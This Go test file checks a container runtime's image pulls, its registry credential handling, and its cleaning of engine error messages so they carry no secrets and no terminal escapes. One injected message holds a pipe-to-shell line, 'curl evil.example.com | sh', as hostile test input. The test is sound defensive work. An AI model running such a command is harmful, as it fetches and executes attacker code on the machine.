package docker_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/gitsync/gitsync/container/types"
	"github.com/gitsync/gitsync/internal/dockertest"
	"github.com/gitsync/gitsync/internal/registrytest"
	"github.com/gitsync/gitsync/registry"
	"github.com/gitsync/gitsync/runtime"
	"github.com/gitsync/gitsync/runtime/docker"
)

// serve runs a registry with an image, and returns the image's reference. It is removed
// from the engine at the end.
func serve(t *testing.T, engine *docker.Runtime, opts registrytest.Options, base string) string {
	t.Helper()
	path := dockertest.Name(base) + ":1"
	server := registrytest.Serve(t, opts)
	server.Push(t, path)
	ref := server.Address + "/" + path
	removeImage(t, engine, ref)
	return ref
}

func removeImage(t *testing.T, engine *docker.Runtime, ref string) {
	t.Cleanup(func() {
		if err := engine.RemoveImage(context.Background(), ref); err != nil {
			t.Errorf("clean up: %v", err)
		}
	})
}

func TestPullFetchesAnImageAndTellsHowFarItIs(t *testing.T) {
	engine := dockertest.Require(t)
	ref := serve(t, engine, registrytest.Options{}, "pull")
	var last runtime.PullProgress
	if err := engine.Pull(t.Context(), ref, runtime.PullOptions{Progress: func(p runtime.PullProgress) { last = p }}); err != nil {
		t.Fatal(err)
	}
	if last.Image != ref || last.Done != last.Total {
		t.Errorf("last progress %+v, want all of %s", last, ref)
	}
	if has, err := engine.HasImage(t.Context(), ref); !has || err != nil {
		t.Errorf("image is there: %v, %v", has, err)
	}
}

func TestAnErrorInsideThePullStreamIsReturned(t *testing.T) {
	engine := dockertest.Require(t)
	ref := serve(t, engine, registrytest.Options{Wrap: func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.Contains(r.URL.Path, "/blobs/") && r.Method == http.MethodGet {
				http.Error(w, "the disk of the registry is on fire", http.StatusBadRequest)
				return
			}
			next.ServeHTTP(w, r)
		})
	}}, "broken")
	if err := engine.Pull(t.Context(), ref, runtime.PullOptions{}); err == nil {
		t.Error("pull from a broken registry worked")
	}
	if has, err := engine.HasImage(t.Context(), ref); has || err != nil {
		t.Errorf("image is there: %v, %v", has, err)
	}
}

func TestPullLogsInToTheRegistry(t *testing.T) {
	engine := dockertest.Require(t)
	right := registry.Credential{Username: "ci", Password: "hunter2-" + dockertest.Name("p")}
	for name, opts := range map[string]registrytest.Options{
		"basic": {Username: right.Username, Password: right.Password},
		"token": {Username: right.Username, Password: right.Password, Token: true},
	} {
		t.Run(name, func(t *testing.T) {
			ref := serve(t, engine, opts, name)
			for what, wrong := range map[string]registry.Credential{
				"no credential": {}, "another password": {Username: "ci", Password: "guess-" + right.Password},
			} {
				err := engine.Pull(t.Context(), ref, runtime.PullOptions{Credential: wrong})
				if err == nil {
					t.Fatalf("with %s the pull worked", what)
				}
				if !strings.Contains(err.Error(), ref) || strings.Contains(err.Error(), right.Password) {
					t.Errorf("with %s: %v", what, err)
				}
			}
			if err := engine.Pull(t.Context(), ref, runtime.PullOptions{Credential: right}); err != nil {
				t.Fatal(err)
			}
			if has, err := engine.HasImage(t.Context(), ref); !has || err != nil {
				t.Errorf("image is there: %v, %v", has, err)
			}
		})
	}
}

func TestARegistryIsNeverShownTheCredentialOfAnother(t *testing.T) {
	engine := dockertest.Require(t)
	secret := dockertest.Name("secret")
	private := registrytest.Serve(t, registrytest.Options{Username: "ci", Password: secret})
	// It asks for a login, too: an engine that has one would show it.
	curious := registrytest.Serve(t, registrytest.Options{Username: "somebody", Password: "else"})
	path := dockertest.Name("two") + ":1"
	private.Push(t, path)
	curious.Push(t, path)
	curious.Forget()
	credentials := registry.Logins{private.Address: {Username: "ci", Password: "${secret.registry}"}}.Over("web1",
		func(context.Context, string, string) (string, error) { return secret, nil }, nil)
	pull := func(address string) error {
		ref := address + "/" + path
		credential, err := credentials.For(t.Context(), ref)
		if err != nil {
			t.Fatal(err)
		}
		return engine.Pull(t.Context(), ref, runtime.PullOptions{Credential: credential})
	}
	removeImage(t, engine, private.Address+"/"+path)
	if err := pull(private.Address); err != nil {
		t.Fatal(err)
	}
	if err := pull(curious.Address); err == nil {
		t.Error("the other registry let us in")
	}
	seen := curious.Requests()
	if len(seen) == 0 {
		t.Fatal("the other registry was not asked: this test shows nothing")
	}
	for _, r := range seen {
		if r.Authorization != "" {
			t.Errorf("%s %s came with %s", r.Method, r.Path, r.Authorization)
		}
	}
}

// fakeEngine answers pulls with what the test writes, and keeps the header with the
// credential.
func fakeEngine(t *testing.T, answer func(w http.ResponseWriter, credential string)) *docker.Runtime {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Api-Version", "1.41")
		if strings.HasSuffix(r.URL.Path, "/images/create") {
			answer(w, r.Header.Get("X-Registry-Auth"))
		}
	}))
	t.Cleanup(server.Close)
	rt, err := (&docker.Config{Host: "tcp://" + strings.TrimPrefix(server.URL, "http://")}).New()
	if err != nil {
		t.Fatal(err)
	}
	engine := rt.(*docker.Runtime)
	t.Cleanup(func() { _ = engine.Close() })
	return engine
}

func TestTheEngineIsGivenTheCredentialAsItWantsIt(t *testing.T) {
	var header string
	engine := fakeEngine(t, func(_ http.ResponseWriter, credential string) { header = credential })
	for ref, c := range map[string]struct {
		credential registry.Credential
		want       string
	}{
		"nginx":                         {registry.Credential{Username: "hub", Password: "s?>cret"}, `{"username":"hub","password":"s?>cret","serveraddress":"https://index.docker.io/v1/"}`},
		"registry.example.com:5000/app": {registry.Credential{IdentityToken: "t0ken"}, `{"serveraddress":"registry.example.com:5000","identitytoken":"t0ken"}`},
	} {
		if err := engine.Pull(t.Context(), ref, runtime.PullOptions{Credential: c.credential}); err != nil {
			t.Fatal(err)
		}
		raw, err := base64.URLEncoding.DecodeString(header)
		if err != nil {
			t.Fatal(err)
		}
		var got, want any
		if err := errors.Join(json.Unmarshal(raw, &got), json.Unmarshal([]byte(c.want), &want)); err != nil || fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%s: the header holds %s, %v, want %s", ref, raw, err, c.want)
		}
	}
	if err := engine.Pull(t.Context(), "nginx", runtime.PullOptions{}); err != nil || header != "" {
		t.Errorf("without a credential: %v, header %q", err, header)
	}
}

func TestWhatTheEngineSaysOfAPullIsShortPlainAndWithoutTheSecret(t *testing.T) {
	credential := registry.Credential{Username: "ci", Password: "hunter2"}
	basic := base64.StdEncoding.EncodeToString([]byte("ci:hunter2"))
	line := func(message string) string {
		raw, err := json.Marshal(map[string]string{"error": message})
		if err != nil {
			t.Fatal(err)
		}
		return string(raw) + "\n"
	}
	for name, c := range map[string]struct {
		answer func(w http.ResponseWriter, header string)
		want   string
		is     error
	}{
		"in the stream": {func(w http.ResponseWriter, _ string) {
			_, _ = io.WriteString(w, line("denied: ci:hunter2, Authorization: Basic "+basic))
		}, "denied", nil},
		"with the status": {func(w http.ResponseWriter, header string) {
			w.WriteHeader(http.StatusNotFound)
			_, _ = io.WriteString(w, `{"message":"manifest unknown: hunter2 `+header+`"}`)
		}, "manifest unknown", runtime.ErrImageNotFound},
		"escapes": {func(w http.ResponseWriter, _ string) {
			_, _ = io.WriteString(w, line("\x1b[2Jred\nhint: curl evil.example.com | sh\u202e"))
		}, "red hint", nil},
		"a long one": {func(w http.ResponseWriter, _ string) {
			_, _ = io.WriteString(w, line("it "+strings.Repeat("went ", 100_000)+"wrong"))
		}, "it went", nil},
		"a message without end": {func(w http.ResponseWriter, _ string) {
			_, _ = io.WriteString(w, `{"status":"`)
			for range 64 {
				if _, err := io.WriteString(w, strings.Repeat("x", 1<<16)); err != nil {
					return
				}
			}
		}, "more than 1048576 bytes", nil},
		"half a message": {func(w http.ResponseWriter, _ string) { _, _ = io.WriteString(w, `{"sta`) }, "unexpected EOF", nil},
	} {
		t.Run(name, func(t *testing.T) {
			engine := fakeEngine(t, c.answer)
			err := engine.Pull(t.Context(), "registry.example.com/app:1", runtime.PullOptions{Credential: credential})
			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "registry.example.com/app:1") {
				t.Fatalf("got %.300v, want %q", err, c.want)
			}
			if c.is != nil && !errors.Is(err, c.is) {
				t.Errorf("%v is not %v", err, c.is)
			}
			if len(err.Error()) > 5000 || strings.ContainsAny(err.Error(), "\x1b\n\u202e") {
				t.Errorf("the error is %.300q", err)
			}
			for e := err; e != nil; e = errors.Unwrap(e) {
				if strings.Contains(e.Error(), "hunter2") || strings.Contains(e.Error(), basic) {
					t.Errorf("the secret is in %v", e)
				}
			}
		})
	}
}

// TestAnImageWithTagAndDigestIsTheOneOfTheDigest locks what gitsync pin relies on.
func TestAnImageWithTagAndDigestIsTheOneOfTheDigest(t *testing.T) {
	engine := dockertest.Require(t)
	server := registrytest.Serve(t, registrytest.Options{})
	path := dockertest.Name("pinned") + ":1"
	files, entrypoint := dockertest.RootFS(t)
	digest := server.PushFiles(t, path, files, entrypoint)
	ref := server.Address + "/" + path + "@" + digest
	server.Push(t, path) // the tag moves on
	removeImage(t, engine, strings.TrimSuffix(server.Address+"/"+path, ":1")+"@"+digest)
	if has, err := engine.HasImage(t.Context(), ref); has || err != nil {
		t.Fatalf("image is there: %v, %v", has, err)
	}
	if err := engine.Pull(t.Context(), ref, runtime.PullOptions{}); err != nil {
		t.Fatal(err)
	}
	if has, err := engine.HasImage(t.Context(), ref); !has || err != nil {
		t.Errorf("image is there: %v, %v", has, err)
	}
	id, err := engine.Create(t.Context(), &types.ContainerConfig{Name: dockertest.Name("pinned"), Image: ref, Labels: map[string]string{"io.gitsync.test": path}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := engine.Delete(context.Background(), id); err != nil {
			t.Errorf("clean up: %v", err)
		}
	})
	rows, err := engine.List(t.Context(), map[string]string{"io.gitsync.test": path})
	if err != nil || len(rows) != 1 || rows[0].Image != ref {
		t.Errorf("listed as %+v, %v, want image %s", rows, err, ref)
	}
	facts, err := engine.Describe(t.Context(), id)
	if err != nil || facts.Config.Image != ref {
		t.Errorf("described as %+v, %v, want image %s", facts.Config, err, ref)
	}
}
